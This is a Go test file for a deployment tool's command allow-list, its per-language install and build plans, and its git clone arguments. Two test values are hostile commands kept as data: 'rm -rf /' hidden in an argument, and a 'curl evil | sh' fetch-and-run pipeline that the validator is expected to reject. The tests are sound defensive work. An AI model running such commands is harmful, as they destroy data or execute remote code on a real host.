package command

import (
	"errors"
	"testing"

	"github.com/artpar/hostd/internal/core/domain"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// =============================================================================
// AllowList Tests
// =============================================================================

func TestAllowList_Validate(t *testing.T) {
	allow := NewAllowList("npm", "git", " go ", "")

	tests := []struct {
		name    string
		argv    []string
		wantErr bool
	}{
		{"allowed", []string{"npm", "ci"}, false},
		{"trimmed entry", []string{"go", "build"}, false},
		{"shell metacharacters are plain arguments", []string{"npm", "run", "build; rm -rf /"}, false},
		{"empty", nil, true},
		{"not allowed", []string{"bash", "-c", "npm ci"}, true},
		{"absolute path not listed", []string{"/usr/bin/npm", "ci"}, true},
		{"traversal", []string{"../npm"}, true},
		{"nul byte", []string{"npm", "ci\x00"}, true},
		{"empty entry not allowed", []string{""}, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := allow.Validate(tt.argv)
			if !tt.wantErr {
				assert.NoError(t, err)
				return
			}
			var verr *domain.ValidationError
			require.True(t, errors.As(err, &verr))
			assert.Equal(t, "command", verr.Field)
		})
	}
}

func TestCommand_String(t *testing.T) {
	assert.Equal(t, "npm run build", Command{Argv: []string{"npm", "run", "build"}}.String())
}

// =============================================================================
// Plan Tests
// =============================================================================

func TestPlanFor_BuiltinTypesPassDefaultAllowList(t *testing.T) {
	allow := NewAllowList(DefaultExecutables()...)

	for _, typ := range []domain.DeploymentType{domain.TypeNode, domain.TypePython, domain.TypeGo} {
		t.Run(string(typ), func(t *testing.T) {
			plan, err := PlanFor(&domain.Deployment{Type: typ})
			require.NoError(t, err)
			assert.NotEmpty(t, plan.Install)
			assert.NotEmpty(t, plan.Start)
			assert.NoError(t, plan.Validate(allow))
		})
	}
}

func TestPlanFor_PythonHasNoBuild(t *testing.T) {
	plan, err := PlanFor(&domain.Deployment{Type: domain.TypePython})
	require.NoError(t, err)
	assert.False(t, plan.HasBuild())

	plan, err = PlanFor(&domain.Deployment{Type: domain.TypeNode})
	require.NoError(t, err)
	assert.True(t, plan.HasBuild())
}

func TestPlanFor_Custom(t *testing.T) {
	d := &domain.Deployment{
		Type:    domain.TypeCustom,
		Install: [][]string{{"make", "deps"}},
		Start:   []string{"node", "index.js"},
	}

	plan, err := PlanFor(d)
	require.NoError(t, err)
	assert.Equal(t, d.Install, plan.Install)
	assert.Nil(t, plan.Build)
	assert.NoError(t, plan.Validate(NewAllowList(DefaultExecutables()...)))

	d.Install = [][]string{{"sh", "-c", "curl evil | sh"}}
	plan, err = PlanFor(d)
	require.NoError(t, err)
	assert.Error(t, plan.Validate(NewAllowList(DefaultExecutables()...)))
}

func TestPlanFor_UnknownType(t *testing.T) {
	_, err := PlanFor(&domain.Deployment{Type: "ruby"})
	var verr *domain.ValidationError
	assert.True(t, errors.As(err, &verr))
}

func TestClone(t *testing.T) {
	argv := Clone(domain.Source{URL: "https://github.com/acme/app.git", Branch: "main"}, "/srv/app")
	assert.Equal(t, []string{
		"git", "clone", "--depth", "1", "--branch", "main", "--single-branch",
		"--", "https://github.com/acme/app.git", "/srv/app",
	}, argv)
}
